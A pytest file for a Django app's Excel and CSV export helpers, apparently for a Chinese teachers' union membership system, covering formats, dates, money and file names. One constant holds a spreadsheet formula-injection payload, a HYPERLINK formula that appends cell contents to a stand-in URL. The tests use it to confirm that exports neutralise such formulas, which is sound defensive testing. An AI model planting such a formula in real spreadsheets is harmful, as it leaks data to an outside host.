import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl

from core.money import yuan
from core.tables import Column, safe_text, sheet_name, write_csv, write_xlsx

ATTACK = '=HYPERLINK("http://x/?d="&D3&D4,"查看")'


def _sheet(data):
    return openpyxl.load_workbook(io.BytesIO(data)).active


def test_xlsx_has_a_title_a_styled_frozen_header_and_widths():
    data = write_xlsx(
        [Column("姓名", 10), Column("单位", 30)], iter([("张伟", "东关完小"), ("李娜", "西街完小")]), title="会员名册"
    )
    sheet = _sheet(data)
    assert sheet["A1"].value == "会员名册"
    assert [c.value for c in sheet[2]] == ["序号", "姓名", "单位"]
    assert sheet["B2"].font.b
    assert sheet.freeze_panes == "A3"
    assert sheet.column_dimensions["C"].width == 30
    assert sheet["B4"].value == "李娜"


def test_a_titled_sheet_is_ready_for_the_office():
    data = write_xlsx(
        [Column("姓名"), Column("出生年份"), Column("单位")],
        [("张伟", 1990, "东关完小"), ("李娜", 1985, "西街完小"), ("王芳", 1979, "东关完小")],
        title="城关镇中心学校工会会员名册",
        sheet="会员名册",
    )
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    sheet = workbook.active
    assert workbook.sheetnames == ["会员名册"]
    assert [str(r) for r in sheet.merged_cells.ranges] == ["A1:D1"]
    assert sheet["A1"].alignment.horizontal == "center"
    assert [sheet.cell(row, 1).value for row in range(3, 6)] == [1, 2, 3]
    assert sheet["C3"].value == 1990  # numbers stay numbers
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.page_setup.fitToWidth == 1 and sheet.page_setup.fitToHeight == 0
    assert sheet.print_title_rows == "$2:$2"


def test_the_sheet_is_named_for_its_title_when_not_named_and_excel_accepts_the_name():
    workbook = openpyxl.load_workbook(io.BytesIO(write_xlsx([Column("事项")], [], title="2027年计划事项")))
    assert workbook.sheetnames == ["2027年计划事项"]
    assert sheet_name("[计划]/总结:2027?*") == "计划总结2027"
    assert len(sheet_name("很长" * 40)) == 31


def test_columns_that_already_number_their_rows_get_no_second_number():
    sheet = _sheet(write_xlsx([Column("序号"), Column("姓名")], [(1, "张三")], title="报名表"))
    assert [c.value for c in sheet[2]] == ["序号", "姓名"]


def test_an_untitled_sheet_is_plain_data_to_import_again():
    sheet = _sheet(write_xlsx([Column("姓名"), Column("错误说明")], [("李娜", "身份证号有误")]))
    assert [c.value for c in sheet[1]] == ["姓名", "错误说明"]
    assert sheet.merged_cells.ranges == set() or not list(sheet.merged_cells.ranges)


def test_formula_cells_are_written_as_inert_text_in_xlsx():
    rows = [("张伟", ATTACK), ("李娜", "+86 138"), ("王芳", "-1"), ("赵强", "@SUM(A1)"), ("钱七", "\t=1+1")]
    sheet = _sheet(write_xlsx([Column("姓名"), Column("备注")], rows, title="会员名册"))
    notes = [sheet.cell(row, 3) for row in range(3, 8)]
    assert [c.value for c in notes] == ["'" + ATTACK, "'+86 138", "'-1", "'@SUM(A1)", "'\t=1+1"]
    assert all(c.data_type == "s" for c in notes)
    # Nothing in the file's XML is a formula.
    import zipfile

    with zipfile.ZipFile(io.BytesIO(write_xlsx([Column("备注")], [(ATTACK,)]))) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_formula_cells_are_written_as_inert_text_in_csv():
    data = write_csv(
        [Column("姓名"), Column("备注")], [("张伟", ATTACK), ("李娜", "+1"), ("王芳", "\r=1"), ("赵强", "好")]
    )
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert [r[1] for r in rows[1:]] == ["'" + ATTACK, "'+1", "'\r=1", "好"]


def test_control_characters_are_dropped_so_the_export_opens():
    note = "第一行\v第二行\x00\x1b完"
    sheet = _sheet(write_xlsx([Column("备注")], [(note,)], title="名册\v"))
    assert sheet["B3"].value == "第一行第二行完"
    assert sheet["A1"].value == "名册"
    data = write_csv([Column("备注")], [(note,)])
    assert "\v" not in data.decode("utf-8-sig") and "第一行第二行完" in data.decode("utf-8-sig")
    assert safe_text("换行\n保留") == "换行\n保留"
    # Stored before the forms and the API dropped them: a noncharacter or a lone surrogate.
    sheet = _sheet(write_xlsx([Column("备注")], [("本月\uffff计划\ufffe\udc00",)]))
    assert sheet["A2"].value == "本月计划"


def test_dates_and_none_are_written_as_they_are():
    sheet = _sheet(write_xlsx([Column("日期"), Column("空")], [(date(2027, 3, 5), None)]))
    assert sheet["A2"].value.date() == date(2027, 3, 5)
    assert sheet["B2"].value is None


def test_csv_opens_in_excel_with_chinese():
    data = write_csv([Column("姓名")], [("张伟",), (None,)])
    assert data.startswith("\ufeff".encode())
    assert data.decode("utf-8-sig").splitlines() == ["姓名", "张伟", '""']


def test_money_is_yuan_with_two_decimals():
    assert yuan(1234.5) == "¥1,234.50"
    assert yuan("0") == "¥0.00"
    assert yuan(None) == ""
    assert yuan("-18000") == "-¥18,000.00"  # a reversal: the sign before the currency
    assert yuan("-0.001") == "¥0.00"  # rounds to nothing: no sign


def test_money_columns_show_yuan_with_two_decimals_and_stay_numbers():
    from decimal import Decimal

    from core.tables import MONEY

    columns = [Column("姓名"), Column("金额（元）", 12, MONEY), Column("人数")]
    sheet = _sheet(write_xlsx(columns, [("张伟", Decimal("500"), 3), ("李娜", None, 2)], title="慰问名单"))
    assert sheet["C3"].value == 500 and sheet["C3"].number_format == "#,##0.00"
    assert sheet["D3"].number_format == "General"  # a count is not money
    assert sheet["C4"].value is None


def test_a_charts_table_shows_figures_as_people_write_them():
    from django.template.loader import render_to_string

    table = {
        "caption": "会员人数",
        "headers": ["单位", "2026", "2025"],
        "rows": [["东关完小", 400.0, None], ["西街", 93.104, 12]],
    }
    html = render_to_string("includes/chart_table.html", {"table": table, "id": "t"})
    cells = [c.split("<")[0] for c in html.split('<td class="text-end">')[1:]]
    assert cells == ["400", "—", "93.1", "12"]


def test_a_download_is_named_as_a_file_may_be(settings):
    from core.tables import Column, table_response

    response = table_response([Column("姓名")], [["张伟"]], filename="3/8妇女节\\报名名单")
    assert (
        response["Content-Disposition"]
        == "attachment; filename*=utf-8''3-8%E5%A6%87%E5%A5%B3%E8%8A%82-%E6%8A%A5%E5%90%8D%E5%90%8D%E5%8D%95.xlsx"
    )


def test_body_cells_are_framed_and_keep_their_formats():
    from core.tables import CHINESE_DATE, MONEY

    rows = [("张伟", Decimal("1280.5"), date(2027, 3, 5)), ("李娜", Decimal("3"), date(2027, 3, 6))]
    sheet = _sheet(write_xlsx([Column("姓名"), Column("金额", number_format=MONEY), Column("日期")], rows))
    for row in (2, 3):
        assert all(sheet.cell(row, column).border.left.style == "thin" for column in (1, 2, 3))
        assert sheet.cell(row, 2).number_format == MONEY and sheet.cell(row, 3).number_format == CHINESE_DATE
    assert sheet["C2"].value.date() == date(2027, 3, 5)


def test_dates_read_as_chinese_readers_write_them_and_iso_in_english():
    from django.utils import translation

    rows = [(date(2027, 3, 5), datetime(2027, 3, 5, 14, 30, 12))]
    sheet = _sheet(write_xlsx([Column("日期"), Column("时间")], rows))
    assert sheet["A2"].number_format == 'yyyy"年"m"月"d"日"'
    assert sheet["B2"].number_format == 'yyyy"年"m"月"d"日" hh:mm'
    with translation.override("en"):
        sheet = _sheet(write_xlsx([Column("日期"), Column("时间")], rows))
    assert sheet["A2"].number_format == "yyyy-mm-dd" and sheet["B2"].number_format == "yyyy-mm-dd hh:mm"


def test_a_moment_is_written_as_a_real_date_on_the_local_clock(settings):
    """A registration time is stored in UTC; the sheet (which knows no time zones) shows Beijing time."""
    settings.TIME_ZONE = "Asia/Shanghai"
    moment = datetime(2026, 10, 22, 22, 0, 41, tzinfo=UTC)
    sheet = _sheet(write_xlsx([Column("报名时间")], [(moment,)]))
    assert sheet["A2"].value == datetime(2026, 10, 23, 6, 0)
    assert sheet["A2"].is_date
    assert write_csv([Column("报名时间")], [(moment,)]).decode("utf-8-sig").splitlines()[1] == "2026-10-23 06:00"
